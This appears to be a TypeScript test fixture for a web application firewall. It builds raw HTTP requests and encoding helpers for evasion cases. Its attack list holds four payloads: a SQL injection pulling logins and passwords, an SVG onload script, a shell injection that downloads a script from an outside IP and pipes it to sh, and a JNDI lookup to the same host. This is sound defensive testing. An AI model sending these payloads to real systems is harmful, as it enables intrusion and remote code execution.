/** Raw requests for the WAF's cases. Texts are latin-1: one character is one byte. */

/** One of each kind that no detector of another kind would find. */
export const attacks: readonly (readonly [name: string, payload: string])[] = [
  ["SQL", "1' UNION SELECT login, password FROM accounts-- -"],
  ["markup", "<svg/onload=alert(document.domain)>"],
  ["shell", "; wget http://203.0.113.9/x.sh -O- | sh"],
  ["lookup", "${jndi:ldap://203.0.113.9/a}"],
];

export function getRequest(target: string, ...fields: readonly string[]): Buffer {
  return Buffer.from([`GET ${target} HTTP/1.1`, "Host: a.test", ...fields, "", ""].join("\r\n"), "latin1");
}

/** `type` "" = no Content-Type. */
export function postRequest(type: string, body: string | Uint8Array, ...fields: readonly string[]): Buffer {
  const bytes = typeof body === "string" ? Buffer.from(body, "latin1") : body;
  const typeField = type === "" ? [] : [`Content-Type: ${type}`];
  const lines = ["POST /p HTTP/1.1", "Host: a.test", ...typeField, ...fields];
  const head = `${lines.join("\r\n")}\r\nContent-Length: ${bytes.length}\r\n\r\n`;
  return Buffer.concat([Buffer.from(head, "latin1"), bytes]);
}

export const json = "application/json";
export const form = "application/x-www-form-urlencoded";
export const multipart = "multipart/form-data; boundary=b0";

/** One form field in multipart. `head`: the lines of its header block. */
export function part(head: string, content: string): string {
  return `--b0\r\n${head}\r\n\r\n${content}\r\n`;
}

export const named = 'Content-Disposition: form-data; name="q"';

export function postParts(parts: string, type: string = multipart): Buffer {
  return postRequest(type, `${parts}--b0--\r\n`);
}

/** Every byte that is not a letter or digit, percent-encoded. */
export function percent(text: string): string {
  return text.replace(/[^A-Za-z0-9]/g, (char) => `%${char.charCodeAt(0).toString(16).padStart(2, "0")}`);
}

/** `percent` so many times. */
export function layers(text: string, count: number): string {
  let out = text;
  for (let layer = 0; layer < count; layer++) out = percent(out);
  return out;
}

/** Every character as `\u00xx`. */
export function unicode(text: string): string {
  return [...text].map((char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
}
